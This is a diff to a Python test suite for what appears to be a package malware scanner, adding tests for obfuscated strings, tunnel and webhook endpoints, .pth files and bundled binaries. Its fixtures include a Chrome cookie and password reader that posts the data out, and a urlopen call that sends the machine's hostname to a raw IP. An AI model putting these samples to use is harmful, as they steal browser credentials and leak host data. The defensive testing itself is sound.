@@ -255,6 +255,18 @@ def test_chr_joined_string_fed_to_exec(tmp_path: Path) -> None:
 def test_chr_over_a_computed_range_is_not_obfuscation() -> None:
     code = "CONTROL = ''.join(chr(i) for i in range(32))\n"
     assert analyse(code).hits == ()
+    # a range filtered by a tuple of code points: a character set (httpx's URL quoting)
+    codes = ", ".join(str(c) for c in range(0x20, 0x2A))
+    safe = f"SAFE = ''.join([chr(i) for i in range(0x20, 0x7F) if i not in ({codes})])\n"
+    assert analyse(safe).hits == ()
+    # a move into another Unicode block (surrogate escapes), over bytes given at run time
+    escape = "def f(b):\n    return ''.join(chr(0xDC00 + x) for x in b)\n"
+    assert analyse(escape).hits == ()
+
+
+def test_chr_of_shifted_literal_text_is_obfuscation() -> None:
+    code = "N = ''.join(chr(ord(c) - 3) for c in 'hydo')\n"
+    assert [h.kind for h in analyse(code).hits] == ["chr-join"]
 
 
 def test_bidi_control_and_homoglyph_identifiers() -> None:
@@ -303,13 +315,60 @@ def test_endpoint_patterns() -> None:
     for url, what in samples.items():
         hits = [h for h in analyse(f"U = {url!r}\n").hits if h.rule == "exfil-endpoint"]
         assert hits and what in hits[0].text, url
-    raw = analyse("U = 'http://198.51.100.7:8080/x'\n").hits
+    raw = analyse("U = 'http://93.184.216.34:8080/x'\n").hits
     assert [h.kind for h in raw] == ["raw-ip"]
     local = analyse("U = 'http://127.0.0.1:8000/'\n").hits
     assert [h.kind for h in local] == ["raw-ip-local"]
 
 
+def test_generated_tunnel_names_are_concrete_channels() -> None:
+    for host in (
+        "b296-71-179-165-157.ngrok-free.app",
+        "8425-2a02-a310-e143-8d80.ngrok-free.app",
+        "0.tcp.eu.ngrok.io",
+        "calm-river-lake-stone.trycloudflare.com",
+    ):
+        kinds = [h.kind for h in analyse(f"H = 'https://{host}/x'\n").hits]
+        assert "channel" in kinds, host
+    # the service's own names are endpoints, not someone's channel
+    kinds = [h.kind for h in analyse("H = 'https://dashboard.ngrok.com/x'\n").hits]
+    assert "channel" not in kinds
+
+
+def test_documentation_and_placeholder_addresses_are_no_endpoints() -> None:
+    for url in (
+        "http://192.0.2.10/x",
+        "http://198.51.100.7:8080/x",
+        "https://203.0.113.9/",
+        "http://1.2.3.4:8080",
+        "https://999.999.999.999/",
+    ):
+        assert analyse(f"U = {url!r}\n").hits == (), url
+
+
 # --- credential-access -------------------------------------------------------------------
+
+
+COOKIE_READER = (
+    "import ctypes, os\n"
+    "CHROME = os.path.expanduser('~/.config/google-chrome/Default/Cookies')\n"
+    "STATE = os.path.join('Google/Chrome/User Data', 'Local State')\n"
+    "PASSWORDS = 'Chrome/User Data/Default/Login Data'\n"
+    "def unprotect(blob):\n"
+    "    return ctypes.windll.crypt32.CryptUnprotectData(blob)\n"
+)
+
+
+def test_a_cookie_reading_library_warns_at_most(tmp_path: Path) -> None:
+    result = scan(wheel(tmp_path, {"cookies/__init__.py": COOKIE_READER}, name="a-1.0"))
+    assert result.level == "warn"
+
+
+def test_a_cookie_reader_that_uploads_blocks(tmp_path: Path) -> None:
+    upload = COOKIE_READER + "def send(data):\n    import requests\n    requests.post(URL, data)\n"
+    result = scan(wheel(tmp_path, {"cookies/__init__.py": upload}, name="b-1.0"))
+    assert result.level == "block"
+    assert any(s.kind == "steal-send" for s in result.signals)
 
 
 def test_ssh_keys_and_browser_data_in_setup_py_block(tmp_path: Path) -> None:
@@ -370,6 +429,17 @@ def test_pth_that_execs_blocks(tmp_path: Path) -> None:
     assert "pth-code" in rules(result)
 
 
+def test_pth_fixtures_in_an_sdists_tests_do_not_count_as_start_up_code(tmp_path: Path) -> None:
+    pth = "import sys, types, os; p = os.path.join(sys._getframe(1).f_locals['sitedir'], 'x')\n"
+    fixture: dict[str, str | bytes] = {
+        "setup.py": setup_py(""),
+        "tests/functional/pkg/demo-nspkg.pth": pth,
+    }
+    assert scan(sdist(tmp_path, fixture, name="a-1.0")).level == "clean"
+    shipped: dict[str, str | bytes] = {"setup.py": setup_py(""), "demo-nspkg.pth": pth}
+    assert scan(sdist(tmp_path, shipped, name="b-1.0")).level != "clean"
+
+
 def test_namespace_and_path_pth_files_are_clean(tmp_path: Path) -> None:
     shim = (
         "import sys, types, os;has_mfs = sys.version_info > (3, 5);"
@@ -389,10 +459,23 @@ def test_namespace_and_path_pth_files_are_clean(tmp_path: Path) -> None:
 # --- bundled-binary ------------------------------------------------------------------------
 
 
-def test_native_binary_in_pure_wheel_warns_alone(tmp_path: Path) -> None:
-    result = scan(wheel(tmp_path, {"demo/__init__.py": "", "demo/helper": ELF}))
-    assert rules(result) == {"bundled-binary"}
-    assert all(f.weak for f in result.findings)
+def test_native_binary_alone_is_evidence_not_a_warning(tmp_path: Path) -> None:
+    files: dict[str, str | bytes] = {"demo/__init__.py": ""}
+    files.update({f"demo/launcher-{i}.exe": ELF for i in range(6)})  # packaging launchers
+    result = scan(wheel(tmp_path, files))
+    assert result.level == "clean"
+    assert result.findings == ()
+
+
+def test_native_binary_adds_to_a_warning(tmp_path: Path) -> None:
+    paste = "PASTE = 'https://pastebin.com/raw/abc'\n"
+    without = scan(wheel(tmp_path, {"demo/__init__.py": paste}, name="a-1.0"))
+    files: dict[str, str | bytes] = {"demo/__init__.py": paste, "demo/helper": ELF}
+    both = scan(wheel(tmp_path, files, name="b-1.0"))
+    assert without.level == "warn"
+    assert both.score > without.score
+    assert both.level == "block"
+    assert "bundled-binary" in rules(both)
 
 
 def test_native_binary_run_from_a_pth_blocks(tmp_path: Path) -> None:
@@ -417,7 +500,7 @@ def test_deep_module_signals_are_capped_below_block(tmp_path: Path) -> None:
     deep = (
         "NETRC = '~/.netrc'\nSSH = '~/.ssh/config'\n"
         "HOOK = 'https://discord.com/api/webhooks/1/x'\n"
-        "IP = 'http://198.51.100.7/'\n"
+        "IP = 'http://93.184.216.34/'\n"
     )
     files: dict[str, str | bytes] = {"demo/__init__.py": "", "demo/launcher.exe": ELF}
     files.update({f"demo/sub/m{i}.py": deep for i in range(3)})
@@ -712,6 +795,6 @@ def test_a_library_opening_a_configured_url_while_it_loads_only_warns(tmp_path: 
     assert result.level == "warn", result.findings
     sending = (
         init
-        + "urllib.request.urlopen('https://203.0.113.9/c', data=os.uname().nodename.encode())\n"
+        + "urllib.request.urlopen('https://93.184.216.34/c', data=os.uname().nodename.encode())\n"
     )
     assert scan(wheel(tmp_path, {"demo/__init__.py": sending})).level == "block"
